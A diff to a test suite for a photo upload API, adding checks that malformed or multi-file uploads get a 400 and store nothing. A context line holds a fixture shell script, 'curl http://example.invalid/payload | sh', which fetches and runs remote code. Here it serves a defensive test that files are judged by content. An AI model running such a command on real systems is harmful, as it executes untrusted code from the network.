@@ -119,6 +119,24 @@ describe('photo uploads (/api/media)', () => {
     expect(res.body).toMatchObject({ statusCode: 400, error: 'bad_request', message: '请选择一张照片上传' });
   });
 
+  it('answers 400 to a JSON body instead of a multipart upload', async () => {
+    const res = await upload(residentToken, (req) => req.send({ file: 'not a photo' }));
+    expect(res.status).toBe(400);
+    expect(res.body).toMatchObject({ statusCode: 400, error: 'bad_request', message: '请选择一张照片上传' });
+  });
+
+  it('answers 400 to a photo in another field or to two photos at once, and stores neither', async () => {
+    const before = await t.dataSource.getRepository(MediaFile).count();
+    const input = await plainJpeg();
+    const wrongField = await upload(residentToken, (req) => req.attach('photo', input, 'a.jpg'));
+    const two = await upload(residentToken, (req) => req.attach('file', input, 'a.jpg').attach('file', input, 'b.jpg'));
+    for (const res of [wrongField, two]) {
+      expect(res.status).toBe(400);
+      expect(res.body).toMatchObject({ statusCode: 400, error: 'bad_request', message: '每次只能上传一张照片，字段名为 file' });
+    }
+    expect(await t.dataSource.getRepository(MediaFile).count()).toBe(before);
+  });
+
   it('answers 422 for a text file renamed to .png, judging by content not by name', async () => {
     const before = await t.dataSource.getRepository(MediaFile).count();
     const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/payload | sh\n');
